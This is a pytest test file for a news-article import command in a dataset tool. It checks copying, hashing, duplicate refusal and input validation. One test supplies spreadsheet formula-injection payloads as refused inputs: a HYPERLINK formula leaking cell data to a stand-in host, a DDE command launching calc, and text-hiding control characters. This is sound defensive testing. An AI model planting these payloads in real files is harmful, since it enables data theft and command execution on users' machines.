"""`crackdown add-article`: the text copied unchanged, its row recorded, duplicates and bad input refused."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import SEED_FIXTURE, copy_project
from crackdown import cli, dataset
from crackdown.articles import parse_published, read_articles
from crackdown.errors import ArticleError
from crackdown.paths import Paths

ROOT = SEED_FIXTURE
ARTICLE = "PHNOM PENH, March 14 (Mekong Wire) \u2013 Police deported 312 Chinese nationals on Wednesday.\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return copy_project(tmp_path).root


@pytest.fixture
def article(tmp_path: Path) -> Path:
    file = tmp_path / "incoming" / "wire.txt"
    file.parent.mkdir()
    file.write_text(ARTICLE, encoding="utf-8")
    return file


def add(project: Path, file: Path, *extra: str) -> int:
    return cli.main(
        [
            "--root",
            str(project),
            "add-article",
            str(file),
            "--url",
            "https://example.org/wire/1",
            "--outlet",
            "Mekong Wire",
            "--published",
            "2025-03-14",
            *extra,
        ]
    )


def snapshot(project: Path) -> dict[str, bytes]:
    return {
        p.name: p.read_bytes() if p.is_file() else b"(not a file)"
        for p in sorted((project / "seeds").iterdir())
    }


def test_adding_copies_the_text_byte_for_byte_and_records_its_sha256(
    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert add(project, article, "--id", "mekong-wire-2025-03-14") == 0
    copied = project / "seeds" / "mekong-wire-2025-03-14.txt"
    assert copied.read_bytes() == article.read_bytes()
    row = read_articles(Paths.at(project))[-1]
    assert row["sha256"] == hashlib.sha256(article.read_bytes()).hexdigest()
    assert (
        row["outlet"],
        row["published_on"],
        row["published_precision"],
        row["original_file"],
    ) == (
        "Mekong Wire",
        "2025-03-14",
        "day",
        "wire.txt",
    )
    assert row["headline"] == ARTICLE.strip()
    assert "crackdown extract mekong-wire-2025-03-14" in capsys.readouterr().out
    assert dataset.check(project)[1] == []


def test_the_id_defaults_to_the_outlet_and_date(project: Path, article: Path) -> None:
    assert add(project, article, "--headline", "Cambodia deports 312") == 0
    row = read_articles(Paths.at(project))[-1]
    assert (row["article_id"], row["file"], row["headline"]) == (
        "mekong-wire-2025-03-14",
        "mekong-wire-2025-03-14.txt",
        "Cambodia deports 312",
    )


def test_the_same_text_is_refused_naming_the_article_it_duplicates(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = snapshot(project)
    # a later option overrides the helper's default, as argparse reads options
    seed = ROOT / "seeds" / "asiae-2025-10-16.txt"
    assert (
        add(project, seed, "--url", "https://example.org/other", "--published", "2025-10-17") == 1
    )
    err = capsys.readouterr().err
    assert "the same text is already article asiae-2025-10-16" in err and "row 3" in err
    assert snapshot(project) == before


def test_the_same_url_is_refused(
    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = snapshot(project)
    assert (
        cli.main(
            [
                "--root",
                str(project),
                "add-article",
                str(article),
                "--url",
                "https://CM.asiae.co.kr/en/article/2025101619232128150/",
                "--outlet",
                "X",
                "--published",
                "2025-10-17",
            ]
        )
        == 1
    )
    assert "already recorded for article asiae-2025-10-16" in capsys.readouterr().err
    assert snapshot(project) == before


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda f: f.unlink(), "no such file"),
        (lambda f: f.write_bytes(b"  \n\n"), "the file is empty"),
        (
            lambda f: f.write_bytes("Caf\u00e9 raid".encode("latin-1")),
            "not UTF-8 (byte 0xe9 at line 1",
        ),
        # files of control characters are not articles
        (
            lambda f: f.write_bytes(b"\x00" * 4096),
            "holds the control character U+0000 at line 1",
        ),
        (
            lambda f: f.write_bytes(b"Police deported 31.\x07\n"),
            "holds the control character U+0007 at line 1",
        ),
    ],
)
def test_unusable_files_are_clear_errors_and_add_nothing(
    project: Path,
    article: Path,
    make: Callable[[Path], object],
    message: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = snapshot(project)
    make(article)
    assert add(project, article) == 1
    err = capsys.readouterr().err
    assert message in err and str(article) in err
    assert snapshot(project) == before


@pytest.mark.parametrize(
    ("published", "precision", "message"),
    [
        ("14/03/2025", None, "not a date"),
        ("2025-02-30", None, "not a valid date"),
        ("2999-01-01", None, "is in the future"),
        ("2025-03", "day", "gives no day"),
    ],
)
def test_bad_dates_are_clear_errors(published: str, precision: str | None, message: str) -> None:
    with pytest.raises(ArticleError, match=message):
        parse_published(published, precision)


def test_month_and_year_precision_are_written_as_the_first_day() -> None:
    assert parse_published("2023-11").__repr__() == "(datetime.date(2023, 11, 1), 'month')"
    assert parse_published("2023-11-09", "month")[0].isoformat() == "2023-11-01"
    assert parse_published("2023", None) == (parse_published("2023-01-01")[0], "year")


def test_bad_ids_urls_and_existing_ids_are_refused(
    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert add(project, article, "--id", "Bad Id") == 1
    assert add(project, article, "--id", "asiae-2025-10-16") == 1
    assert add(project, article, "--url", "not a url", "--outlet", "X") == 1
    err = capsys.readouterr().err
    assert "--id 'Bad Id'" in err and "--id asiae-2025-10-16: already an article" in err
    assert "--url 'not a url'" in err


def test_a_failed_table_write_removes_the_copied_text(
    project: Path,
    article: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = snapshot(project)
    real_replace = os.replace

    def failing_replace(src: str, dst: str | os.PathLike[str]) -> None:
        if Path(dst).name == "articles.csv":
            raise OSError(28, "No space left on device")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", failing_replace)
    assert add(project, article) == 1
    assert "could not be written" in capsys.readouterr().err
    assert snapshot(project) == before
    assert not [p for p in (project / "seeds").iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ("--outlet", '=HYPERLINK("http://evil.example/?"&A1,"Wire")', "starts with '='"),
        ("--outlet", "@SUM(A1)", "starts with '@'"),
        ("--headline", "+cmd|' /C calc'!A0", "starts with '+'"),
        ("--credited", "-2+3", "starts with '-'"),
        ("--notes", "\tindented", "starts with a tab"),
        ("--outlet", "Mekong\x1b[31m Wire", "holds U+001B"),
        ("--outlet", "Wire \u202eeriW", "holds U+202E"),
        ("--id", "a" * 300, "300 characters long; an id has at most 100"),
    ],
)
def test_metadata_a_spreadsheet_would_run_or_that_hides_text_is_refused(
    project: Path,
    article: Path,
    option: str,
    value: str,
    message: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = snapshot(project)
    table = (project / "seeds" / "articles.csv").read_bytes()
    assert add(project, article, f"{option}={value}") == 1
    err = capsys.readouterr().err
    assert message in err and option in err
    assert snapshot(project) == before
    assert (project / "seeds" / "articles.csv").read_bytes() == table


def test_a_text_whose_first_line_is_a_formula_needs_a_headline(
    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    article.write_text("=1+1\nPolice deported 312 people.\n", encoding="utf-8")
    assert add(project, article) == 1
    assert "give --headline" in capsys.readouterr().err
    assert add(project, article, "--headline", "Police deport 312") == 0


def test_a_fifo_is_refused_without_waiting_for_a_writer(project: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "incoming.txt"
    os.mkfifo(fifo)
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "crackdown.cli",
            "--root",
            str(project),
            "add-article",
            str(fifo),
            "--url",
            "https://example.org/fifo",
            "--outlet",
            "Wire",
            "--published",
            "2025-03-14",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 1
    assert "is a FIFO, not a regular file" in result.stderr


def test_a_byte_order_mark_is_kept_in_the_copy_but_not_in_the_headline(
    project: Path, article: Path
) -> None:
    raw = b"\xef\xbb\xbf" + ARTICLE.encode("utf-8")
    article.write_bytes(raw)
    assert add(project, article, "--id", "wire-bom") == 0
    assert (project / "seeds" / "wire-bom.txt").read_bytes() == raw
    row = read_articles(Paths.at(project))[-1]
    assert row["headline"] == ARTICLE.strip()
    data, problems = dataset.check(project)
    assert problems == [] and data is not None
    assert data.texts["wire-bom"] == ARTICLE


def test_an_add_article_stopped_before_recording_finishes_when_run_again(
    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # What a kill between copying the text and recording its row leaves behind.
    shutil.copyfile(article, project / "seeds" / "mekong-wire-2025-03-14.txt")
    assert cli.main(["--root", str(project), "check"]) == 1
    err = capsys.readouterr().err
    assert "crackdown add-article seeds/mekong-wire-2025-03-14.txt" in err
    assert add(project, article) == 0
    row = read_articles(Paths.at(project))[-1]
    assert row["article_id"] == "mekong-wire-2025-03-14"
    assert dataset.check(project)[1] == []


def test_an_unrecorded_text_of_other_bytes_is_not_overwritten(
    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stray = project / "seeds" / "mekong-wire-2025-03-14.txt"
    stray.write_text("Another text.\n", encoding="utf-8")
    assert add(project, article) == 1
    err = capsys.readouterr().err
    assert (
        "already exists, with another text" in err
        and "delete seeds/mekong-wire-2025-03-14.txt" in err
    )
    assert stray.read_text(encoding="utf-8") == "Another text.\n"
